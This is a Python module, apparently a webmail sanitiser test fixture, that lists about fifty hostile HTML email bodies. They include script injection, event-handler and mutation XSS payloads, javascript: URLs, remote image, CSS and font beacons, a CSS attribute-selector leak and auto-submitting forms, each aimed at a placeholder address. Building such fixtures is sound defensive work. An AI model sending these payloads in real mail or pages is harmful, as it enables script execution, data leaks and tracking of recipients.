"""Mail that tries to reach a stranger, to run a script, or to change the page around it. Each is known from an
attack on a webmail, or from what browsers load without a click."""

# URL is replaced by the stranger's address. `MARK` is a script that would leave a mark in the page around the mail.
MARK = "parent.document.title='owned';top.owned=1;fetch('URL/fetch');new Image().src='URL/image'"

BODIES = {
    "script": "<script>MARK</script>",
    "script-src": "<script src='URL/a.js'></script>",
    "script-module": "<script type=module>import('URL/m.js')</script>",
    "script-split": "<scr<script>ipt>MARK</scr</script>ipt>",
    "image": "<img src='URL/pixel.gif'>",
    "image-error": "<img src=x onerror=\"MARK\">",
    "image-srcset": "<img srcset='URL/1x.gif 1x, URL/2x.gif 2x'>",
    "image-svg-data": "<img src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><image href='URL/in.svg'/></svg>\">",
    "picture": "<picture><source srcset='URL/source.webp'><img alt=x></picture>",
    "svg-onload": "<svg onload=\"MARK\"></svg>",
    "svg-image": "<svg><image href='URL/svg.png' width=9 height=9 /></svg>",
    "svg-use": "<svg><use href='URL/use.svg#a'></use></svg>",
    "svg-animate": "<svg><a><animate attributeName=href values='javascript:MARK'/><text>x</text></a></svg>",
    "svg-foreign": "<svg><foreignObject><iframe src='URL/foreign'></iframe></foreignObject></svg>",
    "math": "<math><mtext><table><mglyph><style><img src=x onerror=\"MARK\"></style></mglyph></table></mtext></math>",
    "style-import": "<style>@import 'URL/import.css';</style>",
    "style-background": "<div style=\"background:url(URL/background.png)\">x</div>",
    "style-font": "<style>@font-face{font-family:f;src:url(URL/font.woff)} p{font-family:f}</style><p>x</p>",
    "style-list": "<ul style=\"list-style-image:url(URL/list.png)\"><li>x</ul>",
    "style-cursor": "<p style=\"cursor:url(URL/cursor.cur),auto\">x</p>",
    "style-content": "<style>p::before{content:url(URL/content.png)}</style><p>x</p>",
    "style-mask": "<p style=\"-webkit-mask-image:url(URL/mask.png)\">x</p>",
    "style-attribute": "<style>input[value^=a]{background:url(URL/leak-a)}</style><input value=abc>",
    "link-stylesheet": "<link rel=stylesheet href='URL/style.css'>",
    "link-prefetch": "<link rel=prefetch href='URL/prefetch'><link rel=preload as=image href='URL/preload'>",
    "link-preconnect": "<link rel=preconnect href='URL'><link rel=dns-prefetch href='//tracker.invalid'>",
    "meta-refresh": "<meta http-equiv=refresh content='0;url=URL/refresh'>",
    "meta-policy": "<meta http-equiv=Content-Security-Policy content=\"img-src *\"><img src='URL/meta.gif'>",
    "base": "<base href='URL/'><img src='relative.gif'>",
    "iframe": "<iframe src='URL/frame'></iframe>",
    "iframe-srcdoc": "<iframe srcdoc=\"<script>top.owned=1;fetch('URL/srcdoc')</script>\"></iframe>",
    "iframe-javascript": "<iframe src=\"javascript:MARK\"></iframe>",
    "object": "<object data='URL/object'></object>",
    "embed": "<embed src='URL/embed'>",
    "video": "<video autoplay src='URL/video.mp4' poster='URL/poster.png'></video>",
    "audio": "<audio autoplay><source src='URL/audio.mp3'></audio><track src='URL/track.vtt'>",
    "form": "<form id=f action='URL/form' method=post><input name=a autofocus onfocus=\"document.getElementById('f').submit();MARK\"></form>",
    "form-button": "<form action='/api/v1/session' method=post><button formaction='URL/formaction'>x</button></form>",
    "details": "<details open ontoggle=\"MARK\"><summary>x</summary></details>",
    "body-onload": "<body onload=\"MARK\" background='URL/body.png'>x</body>",
    "marquee": "<marquee onstart=\"MARK\">x</marquee>",
    "template": "<div><template shadowrootmode=open><img src='URL/shadow.gif'><script>MARK</script></template></div>",
    "noscript": "<noscript><p title=\"</noscript><img src=x onerror=MARK>\"></noscript>",
    "comment": "<!--><img src=x onerror=\"MARK\">-->",
    "popup": "<a id=a href='URL/popup' target=_top>x</a><script>document.getElementById('a').click()</script>",
    "top": "<script>top.location='URL/top'</script>",
    "animation": "<style>@keyframes x{}</style><p style=\"animation-name:x\" onanimationstart=\"MARK\">x</p>",
    "portal": "<portal src='URL/portal'></portal><fencedframe src='URL/fenced'></fencedframe>",
    "manifest": "<html manifest='URL/cache'><head><link rel=manifest href='URL/manifest'><link rel=icon href='URL/icon.png'></head></html>",
}


def bodies(address):
    """HTML by the name of the attack."""
    return {name: body.replace("MARK", MARK).replace("URL", address) for name, body in BODIES.items()}
